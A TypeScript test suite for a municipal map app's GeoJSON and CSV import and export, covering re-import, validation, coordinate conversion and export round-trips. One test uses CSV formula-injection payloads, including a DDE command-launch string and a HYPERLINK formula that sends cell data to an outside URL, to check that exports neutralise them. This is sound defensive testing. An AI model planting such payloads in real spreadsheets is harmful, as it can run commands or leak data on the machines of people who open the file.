import { parse } from 'csv-parse/sync'
import { sql } from 'kysely'
import { expect, it } from 'vitest'
import { countAssets } from '../../api/repositories/assets.js'
import { countHistory } from '../../api/repositories/history.js'
import { assetBody, call, describeBackends } from '../helpers/backends.js'

const feature = (
  ref: string,
  name: string,
  coordinates: [number, number],
  extra: Record<string, unknown> = {},
) => ({
  type: 'Feature',
  id: ref,
  geometry: { type: 'Point', coordinates },
  properties: { name, kind: 'bench', ...extra },
})

const collection = (...features: unknown[]) =>
  JSON.stringify({ type: 'FeatureCollection', features })

describeBackends('import and export', (ctx) => {
  const post = (query: string, body: string, type = 'application/geo+json') =>
    call(ctx().app, 'POST', `/api/import${query}`, body, { 'content-type': type })

  it('imports GeoJSON, and a second run of the same file changes nothing', async () => {
    const file = collection(
      feature('b1', 'Bankje Zuiderzeeweg', [5.47, 52.51], { fid: 7 }),
      feature('b2', 'Picknickbank Bos', [5.5, 52.52], { kind: 'picnic_table' }),
    )
    const first = await post('', file)
    expect(first.status, first.text).toBe(200)
    expect(first.json).toMatchObject({
      dry_run: false,
      total: 2,
      created: 2,
      updated: 0,
      unchanged: 0,
      ignored_fields: ['fid'],
    })
    const second = await post('', file)
    expect(second.json).toMatchObject({ created: 0, updated: 0, unchanged: 2 })
    expect(await countAssets(ctx().handle.db)).toBe(2)
    expect(await countHistory(ctx().handle.db)).toBe(2)
  })

  it('updates what changed on re-import and records it as an import in the history', async () => {
    await post('', collection(feature('b1', 'Bankje', [5.47, 52.51])))
    const res = await post('', collection(feature('b1', 'Bankje (nieuw geverfd)', [5.47, 52.51])))
    expect(res.json).toMatchObject({ created: 0, updated: 1 })
    const list = await call(ctx().app, 'GET', '/api/assets')
    const asset = list.json.features[0]
    expect(asset.properties).toMatchObject({
      name: 'Bankje (nieuw geverfd)',
      version: 2,
      source: 'import',
      source_ref: 'b1',
    })
    const history = await call(ctx().app, 'GET', `/api/assets/${asset.id}/history`)
    expect(history.json.entries.map((e: { action: string }) => e.action)).toEqual([
      'import',
      'import',
    ])
    expect(history.json.entries[1].before.properties.name).toBe('Bankje')
  })

  it('does not bring back an imported asset that a person deleted', async () => {
    await post('', collection(feature('b1', 'Bankje', [5.47, 52.51])))
    const id = (await call(ctx().app, 'GET', '/api/assets')).json.features[0].id
    await call(ctx().app, 'DELETE', `/api/assets/${id}`)
    const res = await post('', collection(feature('b1', 'Bankje', [5.47, 52.51])))
    expect(res.json).toMatchObject({ created: 0, skipped_deleted: 1 })
    expect((await call(ctx().app, 'GET', '/api/assets')).json.features).toHaveLength(0)
  })

  it('reports per-row errors in a dry run and writes nothing', async () => {
    const file = collection(
      feature('ok', 'Goed bankje', [5.47, 52.51]),
      feature('far', 'Bankje in Parijs', [2.35, 48.85]),
      feature('bad', '', [5.47, 52.51], { opening_hours: 'soms' }),
    )
    const res = await post('?dryRun=true', file)
    expect(res.status).toBe(200)
    expect(res.json).toMatchObject({ dry_run: true, total: 3, valid: 1, created: 1 })
    expect(res.json.errors.map((e: { row: number }) => e.row)).toEqual([2, 3])
    expect(res.json.errors[0].errors[0]).toMatchObject({
      pointer: '/geometry/coordinates',
      code: 'outside_region',
    })
    expect(res.json.errors[1].errors.map((e: { code: string }) => e.code).sort()).toEqual([
      'invalid_opening_hours',
      'required',
    ])
    expect(await countAssets(ctx().handle.db)).toBe(0)
  })

  it('saves nothing when one row of a real import is invalid', async () => {
    const file = collection(
      feature('a', 'Bankje A', [5.47, 52.51]),
      feature('b', 'Bankje B', [5.47, 52.51], { capacity: -1 }),
    )
    const res = await post('', file)
    expect(res.status).toBe(422)
    expect(res.headers.get('content-type')).toContain('application/problem+json')
    expect(res.json.report.errors[0]).toMatchObject({ row: 2, source_ref: 'b' })
    expect(await countAssets(ctx().handle.db)).toBe(0)
    expect(await countHistory(ctx().handle.db)).toBe(0)
  })

  it('refuses duplicate references in one file', async () => {
    const res = await post(
      '',
      collection(feature('same', 'Een', [5.47, 52.51]), feature('same', 'Twee', [5.48, 52.51])),
    )
    expect(res.status).toBe(422)
    expect(res.json.report.errors[0].errors[0].code).toBe('duplicate')
  })

  it('reads Dutch spreadsheet CSV: semicolons, decimal commas, ja/nee, lists with |', async () => {
    const csv = [
      'naam_intern;name;kind;lon;lat;free_entry;target_groups;activities',
      'x;Huiskamer Atolwijk;living_room;5,4600;52,5200;ja;elderly|everyone;koffie|handwerk',
      'y;Bankje Stadshart;bench;5,4750;52,5100;;;',
    ].join('\n')
    const res = await post('', csv, 'text/csv')
    expect(res.status, res.text).toBe(200)
    expect(res.json).toMatchObject({ created: 2, ignored_fields: ['naam_intern'] })
    const list = await call(ctx().app, 'GET', '/api/assets?q=Atolwijk')
    expect(list.json.features[0].geometry.coordinates).toEqual([5.46, 52.52])
    expect(list.json.features[0].properties).toMatchObject({
      free_entry: true,
      target_groups: ['elderly', 'everyone'],
      activities: ['koffie', 'handwerk'],
    })
    expect(list.json.features[0].properties.source_ref).toMatch(/^auto:/)
    expect((await post('', csv, 'text/csv')).json).toMatchObject({ created: 0, unchanged: 2 })
  })

  it('converts RD New x/y in CSV like PostGIS does (within a metre)', async () => {
    const res = await post(
      '',
      'source_ref,name,kind,x,y\nrd1,Stadhuis,community_centre,160620.91,502482.80\n',
      'text/csv',
    )
    expect(res.status, res.text).toBe(200)
    const [asset] = (await call(ctx().app, 'GET', '/api/assets')).json.features
    const check = await sql<{ d: number }>`select ST_Distance(
        ST_Transform(ST_SetSRID(ST_MakePoint(${asset.geometry.coordinates[0]}::float8, ${asset.geometry.coordinates[1]}::float8), 4326), 28992),
        ST_SetSRID(ST_MakePoint(160620.91, 502482.80), 28992)) as d`.execute(ctx().handle.db)
    expect(Number(check.rows[0]?.d)).toBeLessThan(1)
  })

  it('refuses CSV without coordinate columns, and an unknown format', async () => {
    const res = await post('', 'name,kind\nA,bench\n', 'text/csv')
    expect(res.status).toBe(422)
    expect(res.json.errors[0].code).toBe('invalid_file')
    const unknown = await post('', 'hello', 'text/plain')
    expect(unknown.status).toBe(415)
  })

  it('exports GeoJSON and CSV with the list filters, and the CSV export re-imports unchanged', async () => {
    await post(
      '',
      collection(
        feature('a', 'Bankje A', [5.47, 52.51], { target_groups: ['elderly', 'youth'] }),
        feature('c', 'Café C', [5.75, 52.71], { kind: 'cafe' }),
      ),
    )
    const geojson = await call(ctx().app, 'GET', '/api/export.geojson?kind=cafe')
    expect(geojson.headers.get('content-disposition')).toContain('attachment')
    expect(
      geojson.json.features.map((f: { properties: { name: string } }) => f.properties.name),
    ).toEqual(['Café C'])
    const csv = await call(ctx().app, 'GET', '/api/export.csv')
    expect(csv.headers.get('content-type')).toContain('text/csv')
    expect(csv.text.split('\n')[0]).toMatch(/^id,lon,lat,name,kind,is_meeting_place,/)
    const again = await post('?dryRun=true', csv.text, 'text/csv')
    expect(again.json).toMatchObject({ total: 2, unchanged: 2, created: 0, updated: 0, errors: [] })
    expect((await call(ctx().app, 'GET', '/api/export.csv?bbox=nonsense')).status).toBe(400)
  })

  /** Places made in the app (no source_ref), the way a person makes them. */
  async function madeInTheApp(...places: Record<string, unknown>[]) {
    for (const [i, properties] of places.entries()) {
      const res = await call(
        ctx().app,
        'POST',
        '/api/assets',
        assetBody(properties, [5.47 + i / 100, 52.51]),
      )
      expect(res.status, res.text).toBe(201)
    }
  }

  it('writes text that looks like a formula spreadsheet-safe, and the CSV import gives it back exactly', async () => {
    const formulas = [
      '=HYPERLINK("https://example.org/?x="&A1,"Klik")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1+1)',
      "'=1+1",
      "''-x",
    ]
    await madeInTheApp(
      ...formulas.map((name, i) => ({
        name,
        description: i === 0 ? '=1+2' : "'gewoon",
        activities: ['@koffie', 'koken'],
      })),
    )
    const csv = await call(ctx().app, 'GET', '/api/export.csv')
    const rows = parse<Record<string, string>>(csv.text, { columns: true })
    expect(rows.map((r) => r.name).sort()).toEqual(formulas.map((f) => `'${f}`).sort())
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        expect(cell, column).not.toMatch(/^[=+\-@\t\r]/)
      }
      expect(row.lon).toMatch(/^\d+\.\d+$/)
      expect(row.activities).toBe("'@koffie|koken")
    }
    expect(rows.find((r) => r.description === "'=1+2")).toBeDefined()
    expect(rows.filter((r) => r.description === "'gewoon")).toHaveLength(5)

    const history = await countHistory(ctx().handle.db)
    const again = await post('', csv.text, 'text/csv')
    expect(again.json).toMatchObject({ created: 0, updated: 0, unchanged: 6, errors: [] })
    expect(await countHistory(ctx().handle.db)).toBe(history)
    // A file made elsewhere with such cells: the quote goes, the text stays as it was meant.
    await post('', "name,kind,lon,lat\n'=A1,bench,5.6,52.6\n''=B2,bench,5.61,52.6\n", 'text/csv')
    const names = (await call(ctx().app, 'GET', '/api/assets?kind=bench')).json.features.map(
      (f: { properties: { name: string } }) => f.properties.name,
    )
    expect(names.sort()).toEqual(["'=B2", '=A1'])
  })

  it('re-imports its own CSV and GeoJSON exports of places made in the app as unchanged', async () => {
    await madeInTheApp(
      {
        name: 'Buurthuis De Kern',
        contact_name: 'Anna',
        contact_email: 'anna@example.nl',
        target_groups: ['elderly', 'youth'],
        activities: ['koffie', 'biljart'],
        capacity: 40,
        free_entry: false,
        description: 'Regel één\nregel twee, met "aanhalingstekens"',
      },
      { name: 'Bankje', kind: 'bench' },
    )
    // Another of the same at the same spot: only their ids tell them apart.
    const twin = assetBody({ name: 'Bankje', kind: 'bench' }, [5.48, 52.51])
    expect((await call(ctx().app, 'POST', '/api/assets', twin)).status).toBe(201)
    const assets = await countAssets(ctx().handle.db)
    const history = await countHistory(ctx().handle.db)
    const csv = await call(ctx().app, 'GET', '/api/export.csv')
    const geojson = await call(ctx().app, 'GET', '/api/export.geojson')
    for (const [body, type] of [
      [csv.text, 'text/csv'],
      [geojson.text, 'application/geo+json'],
    ] as const) {
      const res = await post('', body, type)
      expect(res.status, res.text).toBe(200)
      expect(res.json).toMatchObject({ total: 3, created: 0, updated: 0, unchanged: 3, errors: [] })
      expect(await countAssets(ctx().handle.db)).toBe(assets)
      expect(await countHistory(ctx().handle.db)).toBe(history)
    }
    // A visitor's export has no contact details: importing it keeps them, it does not clear them.
    const pub = await call(ctx().anon, 'GET', '/api/export.csv')
    expect(pub.text.split('\n')[0]).not.toContain('contact_name')
    expect((await post('', pub.text, 'text/csv')).json).toMatchObject({ unchanged: 3 })
    const kern = (await call(ctx().app, 'GET', '/api/assets?q=Kern')).json.features[0]
    expect(kern.properties).toMatchObject({
      contact_name: 'Anna',
      source: 'user',
      source_ref: null,
    })
  })
})
